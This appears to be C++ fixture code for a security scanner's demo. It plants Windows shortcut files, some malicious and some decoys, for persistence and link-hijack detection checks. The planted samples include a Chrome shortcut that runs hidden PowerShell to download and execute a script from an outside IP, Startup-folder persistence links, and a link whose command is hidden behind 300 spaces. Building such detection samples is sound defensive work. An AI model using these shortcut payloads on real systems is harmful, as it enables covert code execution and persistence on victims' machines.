// Shortcuts.
#include "tests/support/lnk_writer.h"
#include "tools/demo/exhibition/exhibition.h"

namespace xiezhi::demo {
namespace {

using enum Role;

struct Shortcut {
    Role role;
    const char* check;
    const char* path;  // from the volume's root
    const char* target;
    const char* arguments = "";
    const char* icon = "";
};

constexpr const char* kShell = R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)";

// clang-format off
constexpr auto kShortcuts = std::to_array<Shortcut>({
    {Planted, "host/startup_link", "ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/Update.lnk", R"(C:\Users\Public\sl.exe)"},
    {Planted, "host/startup_link", "Users/li/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/Helper.lnk", R"(C:\Windows\System32\wscript.exe)", R"(C:\Tools\sl-helper.vbs)"},
    {Planted, "host/startup_link", "Users/li/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/Tool.lnk", R"(C:\Tools\sl-tool.exe)"},
    {Decoy, "host/startup_link", "ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/Acme Sync.lnk", R"(C:\Program Files\Acme Sync\sync.exe)", "/background"},
    {Planted, "host/link_hijacked", "Users/li/Desktop/Google Chrome.lnk", kShell, R"(-w hidden -c "iex (iwr http://203.0.113.9/l.ps1); start chrome")", R"(C:\Program Files\Google\Chrome\Application\chrome.exe)"},
    {Decoy, "host/link_hijacked", "Users/wang/Desktop/Google Chrome.lnk", R"(C:\Program Files\Google\Chrome\Application\chrome.exe)", "--profile-directory=Default", R"(C:\Program Files\Google\Chrome\Application\chrome.exe)"},
    {Decoy, "host/link_hijacked", "Users/wang/Desktop/Acme console.lnk", kShell, R"(-NoExit -File "C:\Program Files\Acme\console.ps1")", R"(C:\Program Files\Acme\console.exe)"},
});
// clang-format on

}  // namespace

void exhibit_links(const Exhibition& at) {
    // More blanks than the dialog shows, and what runs behind them.
    constexpr std::size_t kBlanks = 300;
    testing::LinkContent padded;
    padded.local_path = R"(C:\Windows\System32\cmd.exe)";
    padded.path_suffix.clear();
    padded.arguments = std::string(kBlanks, ' ') + R"(/c C:\Tools\lh.bat)";
    const std::string path = "Users/li/Desktop/Plan.lnk";
    at.exhibit.file(path, testing::link_file(padded));
    at.exhibit.tell(Planted, "host/link_hijacked", path, "Plan.lnk");
    for (const Shortcut& one : kShortcuts) {
        testing::LinkContent content;
        content.local_path = one.target;
        content.path_suffix.clear();
        if (*one.arguments != '\0') content.arguments = one.arguments;
        if (*one.icon != '\0') content.icon_location = one.icon;
        at.exhibit.file(one.path, testing::link_file(content));
        const std::string_view name =
            std::string_view(one.path).substr(std::string_view(one.path).rfind('/') + 1);
        at.exhibit.tell(one.role, one.check, one.path, name);
    }
}

}  // namespace xiezhi::demo
